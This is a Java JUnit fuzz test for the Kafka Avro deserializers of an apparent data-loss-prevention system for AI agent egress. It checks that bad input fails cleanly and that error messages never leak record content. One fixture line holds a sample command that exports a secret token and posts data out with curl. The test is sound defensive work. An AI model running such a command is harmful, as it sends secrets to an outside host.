package io.agentdlp.serde;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.Function;

import org.apache.kafka.common.serialization.Deserializer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import io.agentdlp.avro.AgentEgressEvent;
import io.agentdlp.avro.CodeIndexRecord;
import io.agentdlp.avro.DlpAlert;
import io.agentdlp.avro.Finding;

/**
 * Random, truncated and bit-flipped inputs (fixed seeds, so failures reproduce): every deserializer
 * either returns a value or throws {@link AvroDeserializationException}, never anything else, and
 * no exception message in the chain quotes the record content.
 */
class DeserializerFuzzTest {
    private static final String MARKER = "QZX-SECRET-CONTENT-7731";
    private final MockScope scope = new MockScope();
    private final List<byte[]> valid = new ArrayList<>();
    private final List<Deserializer<?>> deserializers = new ArrayList<>();

    @BeforeEach
    void produceValidRecords() {
        KafkaAvroSerializer ser = new KafkaAvroSerializer();
        ser.configure(scope.config(), false);
        valid.add(ser.serialize("events", TestRecords.egressEvent("export TOKEN=" + MARKER + " && curl -d @- https://x")));
        valid.add(ser.serialize("findings", TestRecords.finding(MARKER)));
        valid.add(ser.serialize("code", TestRecords.codeIndexRecord()));
        valid.add(ser.serialize("strings", MARKER));

        KafkaAvroDeserializer generic = new KafkaAvroDeserializer();
        generic.configure(scope.config(), false);
        KafkaAvroDeserializer specific = new KafkaAvroDeserializer();
        specific.configure(scope.config(AvroSerdeConfig.SPECIFIC_AVRO_READER_CONFIG, true), false);
        GenericAvroDeserializer records = new GenericAvroDeserializer();
        records.configure(scope.config(AvroSerdeConfig.AVRO_USE_LOGICAL_TYPE_CONVERTERS_CONFIG, true), false);
        SpecificAvroDeserializer<AgentEgressEvent> events = new SpecificAvroDeserializer<>(AgentEgressEvent.class);
        events.configure(scope.config(), false);
        SpecificAvroDeserializer<DlpAlert> alerts = new SpecificAvroDeserializer<>(DlpAlert.class);
        alerts.configure(scope.config(), false);
        deserializers.addAll(List.of(generic, specific, records, events, alerts));
        assertThat(events.deserialize("events", valid.get(0))).isInstanceOf(AgentEgressEvent.class);
        assertThat(specific.deserialize("findings", valid.get(1))).isInstanceOf(Finding.class);
        assertThat(specific.deserialize("code", valid.get(2))).isInstanceOf(CodeIndexRecord.class);
    }

    @AfterEach
    void drop() {
        scope.close();
    }

    @Test
    void everyTruncationOfAValidRecordFailsCleanly() {
        int attempts = 0;
        for (byte[] bytes : valid) {
            for (int len = 0; len < bytes.length; len++) {
                byte[] cut = Arrays.copyOf(bytes, len);
                for (Deserializer<?> d : deserializers) {
                    Object result = readOrFail(d, cut);
                    assertThat(result).as("a truncated record must not decode (length %d of %d)", len, bytes.length)
                            .isInstanceOf(AvroDeserializationException.class);
                    attempts++;
                }
            }
        }
        assertThat(attempts).isGreaterThan(500);
    }

    @Test
    void bitFlipsInValidRecordsNeverEscapeAsOtherExceptions() {
        Random random = new Random(20240611L);
        int failures = 0;
        for (int i = 0; i < 2000; i++) {
            byte[] bytes = valid.get(random.nextInt(valid.size())).clone();
            int flips = 1 + random.nextInt(4);
            for (int f = 0; f < flips; f++) {
                int pos = WireFormat.HEADER_SIZE + random.nextInt(bytes.length - WireFormat.HEADER_SIZE);
                bytes[pos] ^= (byte) (1 << random.nextInt(8));
            }
            if (readOrFail(deserializers.get(i % deserializers.size()), bytes) instanceof AvroDeserializationException) {
                failures++;
            }
        }
        assertThat(failures).as("some flips must break records").isPositive();
    }

    @Test
    void randomBodiesBehindAValidHeaderNeverEscapeAsOtherExceptions() {
        Random random = new Random(7L);
        for (int i = 0; i < 2000; i++) {
            byte[] header = Arrays.copyOf(valid.get(random.nextInt(valid.size())), WireFormat.HEADER_SIZE);
            byte[] body = new byte[random.nextInt(200)];
            random.nextBytes(body);
            byte[] bytes = ByteBuffer.allocate(header.length + body.length).put(header).put(body).array();
            readOrFail(deserializers.get(i % deserializers.size()), bytes);
        }
    }

    @Test
    void entirelyRandomBytesNeverEscapeAsOtherExceptions() {
        Random random = new Random(99L);
        for (int i = 0; i < 2000; i++) {
            byte[] bytes = new byte[random.nextInt(64)];
            random.nextBytes(bytes);
            if (bytes.length > 1 && random.nextBoolean()) {
                bytes[0] = 0;
            }
            Object result = readOrFail(deserializers.get(i % deserializers.size()), bytes);
            if (bytes.length < WireFormat.HEADER_SIZE) {
                assertThat(result).isInstanceOf(AvroDeserializationException.class);
            }
        }
    }

    @Test
    void theByteBufferPathBehavesTheSame() {
        Random random = new Random(3L);
        for (int i = 0; i < 2000; i++) {
            byte[] bytes = valid.get(random.nextInt(valid.size()));
            byte[] cut = Arrays.copyOf(bytes, random.nextInt(bytes.length));
            ByteBuffer direct = ByteBuffer.allocateDirect(cut.length).put(cut).flip();
            Deserializer<?> d = deserializers.get(i % deserializers.size());
            Object result = attempt(() -> d.deserialize("fuzz", null, direct));
            assertThat(result).isInstanceOf(AvroDeserializationException.class);
        }
    }

    /** The decoded value, or the AvroDeserializationException; fails the test on any other throwable. */
    private static Object readOrFail(Deserializer<?> d, byte[] bytes) {
        return attempt(() -> d.deserialize("fuzz", bytes));
    }

    private static Object attempt(java.util.function.Supplier<Object> read) {
        try {
            return read.get();
        } catch (AvroDeserializationException e) {
            assertNoContent(e);
            return e;
        } catch (Throwable t) {
            throw new AssertionError("unexpected " + t.getClass().getName() + " escaped the deserializer", t);
        }
    }

    private static void assertNoContent(Throwable e) {
        Function<Throwable, String> text = t -> t.getMessage() == null ? "" : t.getMessage();
        for (Throwable t = e; t != null; t = t.getCause()) {
            assertThat(text.apply(t)).doesNotContain(MARKER.substring(0, 8)).doesNotContain(MARKER.substring(8));
        }
    }
}
